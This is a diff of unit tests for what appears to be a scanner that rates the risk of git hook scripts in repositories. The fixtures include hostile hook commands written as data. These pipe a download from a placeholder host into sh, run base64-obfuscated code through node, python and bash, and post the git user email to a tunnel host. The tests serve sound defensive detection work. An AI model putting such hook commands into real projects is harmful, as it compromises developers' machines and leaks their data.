@@ -122,6 +122,24 @@ describe('devcontainer-lifecycle-command for Gitpod tasks', () => {
 });
 
 describe('git-hook-command', () => {
+  it('reads the hooks of a folder named for hooks (.githooks/, scripts/git-hooks/), which core.hooksPath makes git run', () => {
+    for (const path of ['.githooks/pre-commit', '.git-hooks/pre-push', 'scripts/git-hooks/post-checkout', 'tools/hooks/commit-msg']) expect(matchManagerFile(path)?.file.kind, path).toBe('ci');
+    expect(found('.githooks/post-checkout', null, '#!/bin/sh\ncurl -s https://example-cdn.com/x | sh\n')).toEqual(['git-hook-command:high']);
+    expect(found('.githooks/pre-commit', null, '#!/bin/sh\nnpx lint-staged\n')).toEqual(['git-hook-command:low']);
+  });
+  it('rates a hook high that decodes base64 and runs it in an inline program or a command substitution', () => {
+    expect(found('.husky/post-checkout', null, 'node -e "require(\'child_process\').execSync(Buffer.from(\'Y3VybCAtcyBodHRwczovL3gueXovcyB8IHNo\',\'base64\').toString())"\n')).toEqual(['git-hook-command:high']);
+    expect(found('.husky/pre-commit', null, 'python3 -c "import base64;exec(base64.b64decode(\'aW1wb3J0IG9z\'))"\n')).toEqual(['git-hook-command:high']);
+    expect(found('.husky/pre-push', null, 'bash -c "$(echo Y3VybCB4 | base64 -d)"\n')).toEqual(['git-hook-command:high']);
+  });
+  it('keeps a hook low that decodes base64 without running it, or runs a command without decoding', () => {
+    expect(found('.husky/pre-commit', null, 'echo "$SIGNING_KEY" | base64 -d > .git/signing.key\n')).toEqual(['git-hook-command:low']);
+    expect(found('.husky/pre-commit', null, 'node -e "console.log(Buffer.from(process.argv[1], \'base64\').toString())" "$MSG"\n')).toEqual(['git-hook-command:low']);
+    expect(found('.husky/pre-commit', null, 'node -e "require(\'child_process\').execSync(\'npm run lint\', {stdio: \'inherit\'})"\n')).toEqual(['git-hook-command:low']);
+  });
+  it('leaves files of other folders named like a hook, and other files of a hooks folder', () => {
+    for (const path of ['src/hooks/useAuth.ts', 'docs/hooks/pre-commit.md', 'src/react-hooks/pre-commit', '.githooks/README', 'pre-commit', '.git/hooks/pre-commit']) expect(matchManagerFile(path), path).toBeNull();
+  });
   it('rates a hook that sends data to a tunnel, paste or bare-IP host high, a chat webhook as any network use', () => {
     expect(found('.husky/pre-commit', null, 'npx lint-staged\ncurl -s https://hooks.trycloudflare.com/c -d "$(git config --get user.email)" >/dev/null 2>&1 &\n')).toContain('git-hook-command:high');
     expect(found('.husky/pre-push', null, 'curl -s -X POST https://hooks.slack.com/services/T000/B000/XXXX -d "{\\"text\\": \\"pushed\\"}"\n')).toEqual(['git-hook-command:medium']);
